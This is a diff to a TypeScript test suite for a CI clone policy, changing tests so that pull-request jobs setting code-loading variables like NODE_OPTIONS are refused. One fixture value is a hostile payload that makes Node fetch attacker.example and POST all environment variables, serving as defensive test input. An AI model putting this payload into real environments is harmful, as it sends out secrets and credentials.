@@ -4,7 +4,7 @@ import { testApi } from '../http/fixtures.js';
 /**
  * Variables that make the baseline's own image run code the request chooses, before its program: the clone runs with
  * the baseline's task role and its secrets in the environment, and docs/api.md says a request may not choose what
- * code runs there. With no `allowedVariables` (the default), any of these is accepted from a pull request's job.
+ * code runs there. With no `allowedVariables` (the default), these are refused (rule `code-loading-variable`).
  */
 const CODE_LOADING = [
   ['NODE_OPTIONS', '--import=data:text/javascript,fetch("https://attacker.example/",{method:"POST",body:JSON.stringify(process.env)})'],
@@ -15,7 +15,7 @@ const CODE_LOADING = [
 ] as const;
 
 describe('Clone policy: variables that load code (as a pull request job)', () => {
-  it.fails.each(CODE_LOADING)('refuses %s with 400 policy-violation before any write', async (name, value) => {
+  it.each(CODE_LOADING)('refuses %s with 400 policy-violation before any write', async (name, value) => {
     // Prepare: a pull request's job (in a private repository, a fork's job may have such a token too)
     const api = await testApi();
     const token = await api.signer.sign();
@@ -25,7 +25,7 @@ describe('Clone policy: variables that load code (as a pull request job)', () =>
 
     // Assess
     expect(res.status).toBe(400);
-    expect((await res.json()).type).toBe('urn:devenv:problem:policy-violation');
+    expect(await res.json()).toMatchObject({ type: 'urn:devenv:problem:policy-violation', rule: 'code-loading-variable' });
     expect(api.writes()).toEqual([]);
   });
 });
